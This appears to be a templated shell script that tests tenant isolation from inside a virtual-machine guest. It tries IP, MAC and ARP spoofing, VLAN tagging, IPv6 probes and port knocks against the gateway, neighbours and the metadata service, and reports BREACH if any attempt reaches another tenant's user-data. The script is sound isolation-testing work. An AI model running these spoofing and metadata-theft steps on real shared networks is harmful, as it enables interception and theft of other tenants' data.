#!/bin/sh
# attacker
# Tries, from inside a real guest, everything that must lead to nothing. Says one line each: own (its own user-data), nothing, or BREACH.
me=@ME@ gateway=@GATEWAY@ gateway_mac=@GATEWAY_MAC@ sibling=@SIBLING@ sibling_mac=@SIBLING_MAC@
victim=@VICTIM@ machine=@MACHINE@ outside=@OUTSIDE@ inside=@INSIDE@
metadata=169.254.169.254
mac=$(cat /sys/class/net/eth0/address)

fetch() {
  got=$(timeout 4 wget -q -O - "http://$2/openstack/latest/user_data" 2>/dev/null | head -c 40 | tr '\n' ' ')
  case $got in
    *attacker*) echo "attack: $1 own" ;;
    '') echo "attack: $1 nothing" ;;
    *) echo "attack: $1 BREACH $got" ;;
  esac
}
expect_nothing() {
  name=$1
  shift
  if timeout 5 "$@" >/dev/null 2>&1; then echo "attack: $name BREACH"; else echo "attack: $name nothing"; fi
}
knock() { expect_nothing "port $1:$2" nc -w 2 "$1" "$2" </dev/null; }
back_to_normal() {
  ip link set eth0 down
  ip link set eth0 address "$mac"
  ip addr flush dev eth0 scope global
  ip addr add "$me/@BITS@" dev eth0
  ip link set eth0 up
  ip route replace default via "$gateway" dev eth0
  ip route replace "$metadata/32" via "$gateway" dev eth0
}

fetch before "$metadata"
timeout 5 nc -w 3 "$sibling" 22 </dev/null | grep -q SSH && echo "attack: sibling reached"
ping -c 1 -W 3 "$gateway" >/dev/null && echo "attack: gateway answers"

# Somebody else's address.
for other in "$sibling" "$victim"; do
  ip addr add "$other/32" dev eth0
  ip route replace "$metadata/32" via "$gateway" dev eth0 src "$other"
  fetch "source $other" "$metadata"
  arping -c 2 -w 2 -U -I eth0 -s "$other" "$other" >/dev/null 2>&1
  arping -c 2 -w 2 -A -I eth0 -s "$other" "$other" >/dev/null 2>&1
  back_to_normal
done
ip addr add "$gateway/32" dev eth0
arping -c 2 -w 2 -U -I eth0 -s "$gateway" "$gateway" >/dev/null 2>&1
arping -c 2 -w 2 -A -I eth0 -s "$gateway" "$sibling" >/dev/null 2>&1
back_to_normal

# Somebody else's card, with and without the address.
ip link set eth0 down
ip link set eth0 address "$sibling_mac"
ip link set eth0 up
ip route replace default via "$gateway" dev eth0
ip route replace "$metadata/32" via "$gateway" dev eth0
fetch "mac" "$metadata"
ip addr add "$sibling/@BITS@" dev eth0
ip route replace "$metadata/32" via "$gateway" dev eth0 src "$sibling"
fetch "mac and source" "$metadata"
back_to_normal

# Frames with a tag, as oneself and as the sibling.
for tag in 0 5; do
  vconfig add eth0 $tag >/dev/null 2>&1
  ip link set eth0.$tag up
  for as in "$me" "$sibling"; do
    ip addr flush dev eth0.$tag
    ip addr add "$as/32" dev eth0.$tag
    ip route replace "$gateway/32" dev eth0.$tag src "$as"
    arp -i eth0.$tag -s "$gateway" "$gateway_mac"
    ip route replace "$metadata/32" via "$gateway" dev eth0.$tag src "$as"
    fetch "tag $tag as $as" "$metadata"
  done
  arping -c 2 -w 2 -U -I eth0.$tag -s "$sibling" "$sibling" >/dev/null 2>&1
  vconfig rem eth0.$tag >/dev/null 2>&1
  back_to_normal
done

# IPv6, to where the gateway would be.
echo 0 >/proc/sys/net/ipv6/conf/eth0/disable_ipv6 2>/dev/null
sleep 2
[ -d /proc/sys/net/ipv6 ] && echo "attack: has ipv6"
expect_nothing ipv6 ping6 -c 2 -W 2 -I eth0 @GATEWAY_LINK_LOCAL@

# Others' machines and services.
fetch "victim's address" "$victim"
expect_nothing "ping victim" ping -c 2 -W 2 "$victim"
expect_nothing "ping machine" ping -c 2 -W 2 "$machine"
for target in "$gateway" "$victim" "$machine" "$metadata" 100.100.100.200 169.254.0.23; do
  for port in 22 53 67 111 "$outside" "$inside"; do knock "$target" "$port" & done
  wait
done
knock "$gateway" 80

fetch after "$metadata"
echo "attack: over"
